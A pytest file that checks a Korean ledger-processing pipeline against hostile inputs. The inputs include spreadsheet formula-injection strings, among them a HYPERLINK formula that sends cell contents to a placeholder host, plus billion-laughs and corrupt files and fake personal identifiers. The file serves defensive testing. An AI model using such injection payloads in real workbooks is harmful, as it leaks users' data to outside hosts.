"""A whole run on hostile inputs, through the stage functions (no Prefect).

- Good and bad files together: the bad are refused by name, the good are used.
- Text starting with = + - @ TAB CR stays text in every workbook; the only formulas
  are ledgerflow's totals; no links (../shared/cases/16).
- Phone numbers, e-mails and a 주민등록번호 put into the inputs appear in no shared
  workbook, run.json or log line; the internal master shows contacts, masks the RRN.
- A full or read-only output folder gives a clear OutputError and leaves the
  previous outputs as they were.
"""

from __future__ import annotations

import errno
import json
import logging
import os
import re
import zipfile

import openpyxl
import pytest

from hardening.outputs import all_text, foreign_formulas, links
from hardening.stages import run_stages
from ledgerflow.errors import OutputError

INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?d="&B2,"상세보기")',
    "+플러스상사",
    "@홈마트",
    "-마이너스유통-",
    "\t=SUM(1,2)",
    "\r=1+1 확인 요망",
]
PHONES = ["010-9876-5432", "02-555-0199"]
EMAILS = ["kim.secret@example.org", "boss@partner.example"]
RRN = "900101-1234567"
SHARED = ("profitability_", "evaluation_", "rejects_", "insights_", "scorecard_")


def _plant(folder) -> None:
    """Hostile names, contacts and a 주민등록번호 in the demo partner list."""
    path = folder / "거래처목록.xlsx"
    book = openpyxl.load_workbook(path)
    sheet = book.active
    for row, text in enumerate(INJECTIONS, start=2):
        cell = sheet.cell(row, 2)
        cell.value = text
        cell.data_type = "s"  # openpyxl would make "=..." a formula
    sheet.cell(8, 9).value, sheet.cell(8, 10).value = PHONES[0], EMAILS[0]
    sheet.cell(9, 9).value, sheet.cell(9, 10).value = PHONES[1], EMAILS[1]
    sheet.cell(10, 3).value = RRN  # a resident number typed as the BRN
    sheet.cell(10, 4).value = f"홍길동 {RRN}"
    book.save(path)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory, demo_dir, corpus):
    """One run over the demo with planted data plus bad files; its outputs and log."""
    import shutil

    root = tmp_path_factory.mktemp("hostile")
    folder = root / "input"
    shutil.copytree(demo_dir, folder)
    _plant(folder)
    for case in (
        "truncated zip 50.0%",
        "value in XFD1048576",
        "billion laughs in the sheet",
        "binary garbage as csv",
    ):
        name, data = corpus[case]
        (folder / f"bad_{name}").write_bytes(data)
    records: list[logging.LogRecord] = []
    handler = logging.Handler(level=logging.DEBUG)
    handler.emit = records.append
    logger = logging.getLogger("ledgerflow")
    logger.addHandler(handler)
    old_level = logger.level
    logger.setLevel(logging.DEBUG)
    try:
        summary = run_stages(folder, root / "output")
    finally:
        logger.removeHandler(handler)
        logger.setLevel(old_level)
    out = root / "output" / summary["period"]
    lines = [logging.Formatter().format(r) for r in records]
    return summary, out, lines


def test_bad_files_are_refused_by_name_and_the_rest_is_used(hostile_run):
    summary, out, _ = hostile_run
    by_name = {i["name"]: i for i in summary["inputs"]}
    assert {
        n: by_name[n]["refused"]["rule"] for n in by_name if n.startswith("bad_")
    } == {
        "bad_cut.xlsx": "file_corrupt",
        "bad_far.xlsx": "sheet_too_large",
        "bad_laughs.xlsx": "xml_dtd",
        "bad_garbage.csv": "file_format_unknown",
    }
    good = [i for n, i in by_name.items() if not n.startswith("bad_")]
    assert len(good) == 3 and all(i["refused"] is None for i in good)
    for entry in good:
        rows = entry["rows"]
        assert rows["read"] == rows["used"] + rows["skipped"] + rows["rejected"] > 0
    assert {p.name for p in out.iterdir()} == {
        o.split("/")[0] for o in summary["outputs"]
    }


def test_no_formula_or_link_from_input_text(hostile_run):
    _, out, _ = hostile_run
    workbooks = sorted(out.rglob("*.xlsx"))
    assert len(workbooks) >= 5
    for path in workbooks:
        assert foreign_formulas(path) == [], path.name
        assert links(path) == [], path.name
    # the hostile names are in the master exactly as typed, as text cells
    master = openpyxl.load_workbook(out / "partner_master.xlsx")
    texts = {
        c.value
        for ws in master.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "s"
    }
    for text in INJECTIONS[:4]:
        assert text in texts
    assert any(isinstance(t, str) and t.endswith("=SUM(1,2)") for t in texts)


def test_numbers_stay_numbers(hostile_run):
    """Amounts are number cells, never text that looks like a number."""
    _, out, _ = hostile_run
    path = next(out.glob("profitability_*.xlsx"))
    book = openpyxl.load_workbook(path)
    cells = [
        c for ws in book.worksheets for row in ws.iter_rows(min_row=2) for c in row
    ]
    numbers = [c for c in cells if c.data_type == "n" and c.value is not None]
    as_text = [
        c.coordinate
        for c in cells
        if isinstance(c.value, str)
        and re.fullmatch(r"-?[0-9][0-9,]*(\.[0-9]+)?", c.value)
        and len(c.value) != 5  # partner codes such as 00123 are text on purpose
    ]
    assert len(numbers) > 20
    assert as_text == []


def test_personal_data_stays_out_of_shared_outputs(hostile_run):
    _, out, lines = hostile_run
    secrets = [*PHONES, *EMAILS, RRN, RRN.replace("-", "")]
    shared = [p for p in out.rglob("*.xlsx") if p.name.startswith(SHARED)]
    assert len(shared) >= 4
    texts = {p.name: all_text(p) for p in shared}
    texts["run.json"] = (out / "run.json").read_text("utf-8")
    texts["log"] = "\n".join(lines)
    leaks = {where: [s for s in secrets if s in text] for where, text in texts.items()}
    assert {k: v for k, v in leaks.items() if v} == {}
    master = all_text(out / "partner_master.xlsx")
    assert PHONES[0] in master and EMAILS[0] in master  # internal: contacts shown
    assert RRN not in master and "1234567" not in master


def test_full_or_read_only_output_folder_is_a_clear_error(
    demo_copy, tmp_path, monkeypatch
):
    """ENOSPC/EACCES while writing: OutputError naming the file; old outputs intact."""
    output = tmp_path / "output"
    summary = run_stages(demo_copy, output)
    out = output / summary["period"]
    before = _contents(out)
    import ledgerflow.report.atomic as atomic

    for code, hint in (
        (errno.ENOSPC, "free some disk space"),
        (errno.EACCES, "writable"),
    ):

        def refuse(*args, _code=code, **kwargs):
            raise OSError(_code, os.strerror(_code))

        monkeypatch.setattr(atomic.tempfile, "mkstemp", refuse)
        with pytest.raises(OutputError) as caught:
            run_stages(demo_copy, output)
        assert "partner_master.xlsx" in str(caught.value) and hint in str(caught.value)
        monkeypatch.undo()
        assert _contents(out) == before
    # a disk that fills while a workbook is being written
    real_replace = os.replace

    def full(src, dst):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(atomic.os, "replace", full)
    with pytest.raises(OutputError, match="free some disk space"):
        run_stages(demo_copy, output)
    monkeypatch.setattr(atomic.os, "replace", real_replace)
    assert _contents(out) == before
    assert not [p for p in out.rglob("*.tmp")]
    for name in before:
        if name.endswith(".xlsx"):
            assert zipfile.ZipFile(out / name).testzip() is None
    json.loads((out / "run.json").read_text("utf-8"))


def _contents(folder) -> dict[str, bytes]:
    return {
        str(p.relative_to(folder)): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def test_personal_data_stays_out_of_the_summary_and_prefect_artifacts(
    hostile_run, monkeypatch
):
    """summary.md and the two Prefect artifacts are built from the run's summary and
    headline figures; capture what would be sent to Prefect and scan it."""
    import prefect.artifacts
    import prefect.context

    from ledgerflow import summary as run_summary

    summary, out, _ = hostile_run
    sent: list[str] = []
    monkeypatch.setattr(prefect.context.FlowRunContext, "get", lambda: object())
    monkeypatch.setattr(
        prefect.artifacts,
        "create_table_artifact",
        lambda **kw: sent.append(repr(kw)),
    )
    monkeypatch.setattr(
        prefect.artifacts,
        "create_markdown_artifact",
        lambda **kw: sent.append(repr(kw)),
    )
    figures = run_summary.headline_figures(summary, {"revenue": 1.0}, {}, 3)
    run_summary.publish_artifacts(summary, figures, out, "ko")
    assert len(sent) == 2
    sent.append(run_summary.render_markdown(summary, figures, "ko"))
    secrets = [*PHONES, *EMAILS, RRN, RRN.replace("-", "")]
    assert [s for s in secrets for text in sent if s in text] == []
